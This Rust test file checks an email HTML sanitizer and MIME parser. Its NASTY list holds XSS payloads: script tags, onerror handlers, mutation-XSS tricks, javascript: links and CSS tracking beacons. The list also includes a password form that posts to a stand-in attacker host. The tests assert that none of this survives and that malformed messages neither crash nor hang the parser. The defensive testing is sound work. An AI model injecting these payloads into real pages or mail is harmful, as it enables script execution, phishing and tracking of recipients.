//! What nasty messages are made of, and what must not come through.

#![allow(clippy::unwrap_used, reason = "tests")]

use super::*;
use std::path::Path;
use std::time::{Duration, Instant};

fn html_message(html: &str) -> Vec<u8> {
    format!("Subject: x\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}").into_bytes()
}

/// Nothing that runs, fetches, submits or leaves, in whatever disguise.
#[test]
fn nothing_active_comes_through() {
    NASTY.iter().for_each(|html| check_harmless(html));
}

/// Pieces that are harmless alone may close or open each other's quotes, comments and namespaces.
#[test]
fn nothing_active_comes_through_in_company_either() {
    let mut draw = draws(1);
    for _ in 0..1_500 {
        let pieces = (0..2 + draw(4)).map(|_| {
            let piece = NASTY[draw(NASTY.len())];
            let cut = piece.floor_char_boundary(draw(piece.len() + 1));
            if draw(2) == 0 { piece } else { &piece[..cut] }
        });
        check_harmless(&pieces.collect::<String>());
    }
}

#[test]
fn no_mutilated_message_makes_it_panic() {
    let mut draw = draws(2);
    for _ in 0..1_500 {
        let mut message = RELATED.as_bytes().to_vec();
        for _ in 0..1 + draw(8) {
            let (at, to) = (draw(message.len()), draw(message.len()));
            match draw(4) {
                0 => message[at] = u8::try_from(draw(256)).unwrap(),
                1 => message.truncate(at.max(1)),
                2 => message.insert(at, b"\r\n=-;:\"<>\0\xff"[draw(11)]),
                _ => message.extend_from_within(at.min(to)..at.max(to)),
            }
        }
        let letter = Letter::read(&message);
        let _ = document(&message, RemoteImages::Shown);
        for attachment in &letter.attachments {
            assert!(download(&message, attachment.number).is_some());
        }
    }
}

/// Draws that are the same at every run (Knuth's MMIX generator, its high bits).
fn draws(seed: u64) -> impl FnMut(usize) -> usize {
    let mut state = seed;
    move |below| {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        usize::try_from(state >> 33).unwrap() % below.max(1)
    }
}

/// Is shown, and shows nothing it may not.
fn check_harmless(html: &str) {
    let message = html_message(html);
    assert!(document(&message, RemoteImages::Blocked).is_some(), "{html}");
    hostile::letter(&message);
}

/// The corpus of the fuzz target stays true in every ordinary test run.
#[test]
fn every_seed_of_the_fuzz_target_holds() {
    let corpus = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fuzz/corpus/letter");
    let seeds: Vec<_> = std::fs::read_dir(corpus).unwrap().map(|seed| seed.unwrap().path()).collect();
    assert!(!seeds.is_empty());
    seeds.iter().for_each(|seed| hostile::letter(&std::fs::read(seed).unwrap()));
}

const NASTY: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" ONERROR=\"alert(1)\">",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\"&#1;https://ok.example/\">x</a><a href=\" ht\ttps://ok\n.example/ \">x</a>",
    "<img src=\"&#1;https://evil.example/t.gif\"><img src=\"&#127;https://evil.example/t.gif\">",
    "<img src=\"\u{a0}https://evil.example/t.gif\"><img src=\"ht\u{85}tps://evil.example/t.gif\">",
    "<img src=\"&#1;data:image/svg+xml,x\"><img src=\"da&#9;ta:image/svg+xml,x\">",
    "<a href=\"vbscript:x\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"//evil.example/\">x</a>",
    "<a href=\"/webmail/sign-out\">x</a>",
    "<a href=\"#\" onclick=\"alert(1)\">x</a>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img src=\"javascript:alert(1)\">",
    "<img srcset=\"https://evil.example/t.gif 1x\">",
    "<picture><source srcset=\"https://evil.example/t.gif\"><img src=https://evil.example/t.gif></picture>",
    "<img src=\"https://evil.example/t.gif?id=1\" width=1 height=1>",
    "<input type=image src=https://evil.example/t.gif>",
    "<body background=https://evil.example/t.gif>",
    "<table background=https://evil.example/t.gif><tr><td background=https://evil.example/t.gif>x",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/t.gif)}</style>",
    "<div style=\"background:url(https://evil.example/t.gif)\">x</div>",
    "<div style=\"background:u\\72l(https://evil.example/t.gif)\">x</div>",
    "<div style=\"background:URL('https://evil.example/t.gif')\">x</div>",
    "<div style=\"background-image:image-set('https://evil.example/t.gif' 1x)\">x</div>",
    "<div style=\"color:red;/*;*/background:url(https://evil.example/t.gif)\">x</div>",
    "<div style='font-family:\"a;background:url(https://evil.example/t.gif)\"'>x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style='font-family:\"a\u{7f}b\"'>x</div>",
    "<div style=\"behavior:url(#default#time2)\">x</div>",
    "<div style=\"-moz-binding:url(https://evil.example/x.xml#a)\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<base href=https://evil.example/><a href=x>x</a>",
    "<form action=https://evil.example/><input name=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<iframe src=https://evil.example/></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=https://evil.example/x.swf></object><embed src=https://evil.example/x.swf>",
    "<video poster=https://evil.example/t.gif src=https://evil.example/v.mp4 autoplay></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "</body></html><script>alert(1)</script>",
    "<a target=_self href=https://ok.example/ rel=opener>x</a>",
    "<p id=csrf class=button name=x>x</p>",
];

/// What is left out, counted and shown is the address a browser would follow.
#[test]
fn an_address_in_disguise_is_judged_as_a_browser_reads_it() {
    let message = html_message(
        "<img src=\"&#1;ht\ttps://far.example/a.png \"><img src=\"&#127;https://far.example/b.png\">\
         <a href=\"\u{b}https://far.example/\">x</a>",
    );
    let blocked = document(&message, RemoteImages::Blocked).unwrap();
    assert_eq!(blocked.remote_images, 1);
    assert!(!blocked.markup.contains(".png"), "{}", blocked.markup);
    let shown = document(&message, RemoteImages::Shown).unwrap();
    assert!(shown.markup.contains("<img src=\"https://far.example/a.png\">"), "{}", shown.markup);
    assert!(!shown.markup.contains("b.png") && shown.markup.contains("href=\"https://far.example/\""));
}

#[test]
fn an_ordinary_newsletter_keeps_its_looks() {
    let html = "<html><head><title>T</title></head><body><table width=\"600\" cellpadding=\"0\" bgcolor=\"#eee\"><tr>\
        <td align=\"center\" style=\"padding:12px;color:rgb(1, 2, 3);FONT-SIZE:20px;\
        letter-spacing:1px;border-bottom-width:3px\"><font color=\"red\">Hi</font>\
        <a href=\"https://a.example/?a=1&amp;b=2\">link</a></td></tr></table></body></html>";
    let document = document(&html_message(html), RemoteImages::Blocked).unwrap();
    for kept in [
        "<table width=\"600\" cellpadding=\"0\" bgcolor=\"#eee\">",
        "padding:12px",
        "color:rgb(1, 2, 3)",
        "letter-spacing:1px",
        "border-bottom-width:3px",
        "<font color=\"red\">Hi</font>",
        "href=\"https://a.example/?a=1&amp;b=2\"",
        "target=\"_blank\"",
        "rel=\"noopener noreferrer nofollow\"",
    ] {
        assert!(document.markup.contains(kept), "{kept} is lost: {}", document.markup);
    }
    assert!(!document.markup.contains("<title>T"));
}

#[test]
fn pictures_from_elsewhere_load_only_when_asked_for() {
    let message = html_message(
        "<img src=\"https://far.example/a.png\" alt=\"A\"><img src=\"http://far.example/t.gif\">",
    );
    let blocked = document(&message, RemoteImages::Blocked).unwrap();
    assert_eq!(blocked.remote_images, 2);
    assert!(!blocked.markup.contains("far.example") && blocked.markup.contains("alt=\"A\""));
    assert!(!RemoteImages::Blocked.policy().contains("http"));
    let shown = document(&message, RemoteImages::Shown).unwrap();
    assert!(shown.markup.contains("src=\"https://far.example/a.png\""));
    for policy in [RemoteImages::Blocked.policy(), RemoteImages::Shown.policy()] {
        assert!(policy.starts_with("default-src 'none'; img-src "));
        assert!(policy.contains("; sandbox allow-popups") && !policy.contains("allow-scripts"));
    }
}

const RELATED: &str = "From: =?utf-8?q?Ada_L=C3=B6w?= <ada@example.com>\r\n\
    Reply-To: desk@example.com\r\nTo: a@example.com, B <b@example.com>\r\nCc: group: c@example.com;\r\n\
    Subject: =?utf-8?q?Gr=C3=BC=C3=9Fe?=\r\nDate: Sat, 31 Oct 2026 09:00:00 +0100\r\n\
    Content-Type: multipart/mixed; boundary=\"m\"\r\n\r\npreamble\r\n--m\r\n\
    Content-Type: multipart/related; boundary=\"r\"\r\n\r\n--r\r\n\
    Content-Type: multipart/alternative; boundary=\"a\"\r\n\r\n--a\r\n\
    Content-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n\
    Gr=FC=DFe\r\n--a\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>Grüße <img src=\"cid:logo%40x\"></p>\r\n\
    --a--\r\n--r\r\nContent-Type: image/png\r\nContent-ID: <logo@x>\r\nContent-Transfer-Encoding: base64\r\n\r\n\
    iVBORw0KGgo=\r\n--r--\r\n--m\r\nContent-Type: application/pdf; name=\"=?utf-8?q?=C3=9Cbersicht.pdf?=\"\r\n\
    Content-Disposition: attachment\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERi0=\r\n--m\r\n\
    Content-Type: message/rfc822\r\n\r\nSubject: inner\r\n\r\nhi\r\n--m--\r\nepilogue\r\n";

#[test]
fn a_letter_is_taken_apart_as_its_writer_meant_it() {
    let letter = Letter::read(RELATED.as_bytes());
    assert_eq!(letter.subject.as_deref(), Some("Grüße"));
    assert_eq!(letter.from[0].label(), "Ada Löw");
    assert_eq!(letter.reply_to[0].address, "desk@example.com");
    assert_eq!(letter.to.len(), 2);
    assert_eq!(letter.cc[0].address, "c@example.com");
    assert!(matches!(letter.content, Content::Html { remote_images: 0 }));
    let names: Vec<_> = letter.attachments.iter().map(|a| (a.name.as_str(), a.size)).collect();
    assert_eq!(names, [("Übersicht.pdf", 5), ("inner.eml", 20)]);
    let document = document(RELATED.as_bytes(), RemoteImages::Blocked).unwrap();
    assert!(document.markup.contains("src=\"data:image/png;base64,iVBORw0KGgo=\""), "{}", document.markup);
    let pdf = download(RELATED.as_bytes(), letter.attachments[0].number).unwrap();
    assert_eq!((pdf.bytes.as_slice(), pdf.content_type), (&b"%PDF-"[..], "application/pdf"));
    let inner = download(RELATED.as_bytes(), letter.attachments[1].number).unwrap();
    assert_eq!(inner.bytes, b"Subject: inner\r\n\r\nhi");
    assert!(download(RELATED.as_bytes(), 99).is_none());
}

#[test]
fn text_is_shown_where_html_cannot_be() {
    let deep = "<div>".repeat(100_000);
    let message = format!(
        "Content-Type: multipart/alternative; boundary=a\r\n\r\n--a\r\n\r\nplain words\r\n--a\r\n\
         Content-Type: text/html\r\n\r\n{deep}\r\n--a--\r\n"
    );
    let started = Instant::now();
    assert!(
        matches!(Letter::read(message.as_bytes()).content, Content::Text(text) if text.contains("plain words"))
    );
    assert!(matches!(Letter::read(&html_message(&deep)).content, Content::TooComplex));
    assert!(started.elapsed() < Duration::from_secs(5));
}

#[test]
fn a_hostile_shape_costs_neither_the_stack_nor_the_afternoon() {
    let nested_messages = "Content-Type: message/rfc822\r\n\r\n".repeat(200_000);
    let mut nested_multiparts = String::new();
    for depth in 0..5_000 {
        nested_multiparts += &format!("Content-Type: multipart/mixed; boundary=b{depth}\n\n--b{depth}\n");
    }
    let many_parts = format!("Content-Type: multipart/mixed; boundary=b\n\n{}", "--b\n\nx\n".repeat(100_000));
    let unclosed = html_message(&"<b><i><table><tr><td><a href=x>".repeat(60));
    let links = format!("Subject: x\n\n{}", "http://a)".repeat(60_000));
    let brackets = format!("Subject: x\n\nhttp://a{}", ")".repeat(500_000));
    let started = Instant::now();
    for message in [
        nested_messages.as_bytes(),
        nested_multiparts.as_bytes(),
        many_parts.as_bytes(),
        &unclosed,
        links.as_bytes(),
        brackets.as_bytes(),
        b"",
        b"\r\n",
        b"no header at all",
        b"Content-Type: multipart/mixed; boundary=\r\n\r\n--\r\n--\r\n",
        b"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x",
        b"Content-Type: text/plain; charset=utf-7\r\nContent-Transfer-Encoding: base64\r\n\r\n%%%",
        b"Date: Fri, 99 Foo 99999 99:99:99 +9999\r\nFrom: <<<>>>\r\n\r\n\xff\xfe",
    ] {
        let letter = Letter::read(message);
        assert!(letter.attachments.len() <= 500);
        let _ = document(message, RemoteImages::Blocked);
        let _ = download(message, 0);
    }
    assert!(started.elapsed() < Duration::from_secs(20), "{:?}", started.elapsed());
}
